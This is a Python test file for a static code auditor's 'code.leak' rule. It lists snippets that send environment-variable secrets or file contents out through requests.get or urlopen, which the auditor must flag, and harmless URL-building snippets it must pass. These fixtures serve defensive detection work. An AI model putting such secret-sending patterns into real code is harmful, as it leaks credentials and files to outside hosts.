from tests.rows import each_row

from nightledger.text.code.audit import audit


def rules(text: str) -> set[str]:
    return {finding.rule for finding in audit(text, "python").findings}


GET = "import os, requests\nfrom pathlib import Path\n"


@each_row(
    "text",
    [
        "requests.get(os.environ['BASE'] + '/?q=' + open('a').read())",
        "u = os.environ['BASE']\nrequests.get(f\"{u}/a/{os.environ['KEY']}\")",
        "requests.get('{}/a?{}'.format(os.environ['BASE'], open('a').read()))",
        "requests.get('%s/a?%s' % (os.environ['BASE'], open('a').read()))",
        "requests.get('https://example.org/?{}'.format(os.environ['KEY']))",
        "requests.get('https://example.org/?%s' % os.environ['KEY'])",
        "requests.get('https://example.org/?q'.replace('q', os.environ['KEY']))",
        "requests.get('/'.join([os.environ['BASE'], os.environ['KEY']]))",
        "u = 'https://example.org/?'\nu += os.environ['KEY']\nrequests.get(u)",
        "requests.get('https://example.org', params={'key': os.environ['KEY']})",
        "from urllib.parse import urljoin\nrequests.get(urljoin('https://example.org', os.environ['KEY']))",
        "requests.get(f\"https://{os.environ['KEY']}.example.org\")",
        "from urllib.request import Request, urlopen\nurlopen(Request('https://example.org/' + os.environ['KEY']))",
        "for line in open('a'):\n    requests.get('https://example.org/' + line)",
        "requests.get([os.environ['KEY']])",
    ],
)
def test_what_is_put_behind_an_address_is_sent(text: str) -> None:
    assert "code.leak" in rules(GET + text)


@each_row(
    "text",
    [
        "requests.get(os.environ['BASE'])",
        "requests.get(url=os.environ.get('BASE', 'https://example.org'))",
        "requests.get((os.getenv('BASE') or 'https://example.org') + '/a')",
        "requests.get((os.getenv('BASE') if x else y) + '/a')",
        "u = os.environ['BASE'].rstrip('/')\nrequests.get(f'{u}/a/{number}')",
        "requests.get('{}/a'.format(os.environ['BASE']))",
        "requests.get('%s/%s' % (os.environ['BASE'], number))",
        "requests.get('%s/a' % os.environ['BASE'])",
        "requests.get('/'.join([os.environ['BASE'], 'a']))",
        "requests.get('/'.join(parts))\nos.environ['BASE']",
        "from urllib.parse import urljoin\nrequests.get(urljoin(os.environ['BASE'], 'a'))",
        "for u in open('a.txt'):\n    requests.get(u.strip())\nos.getenv('A')",
        "requests.get(Path('a.txt').read_text().strip())\nos.getenv('A')",
        "from urllib.request import Request, urlopen\nurlopen(Request(os.environ['BASE'], headers={'A': os.environ['KEY']}))",
        "u = os.environ['BASE']\nu = u + '/a'\nrequests.get(u)",
    ],
)
def test_an_address_that_begins_with_a_setting_is_spared(text: str) -> None:
    assert audit(GET + text, "python").clean, audit(GET + text, "python").findings
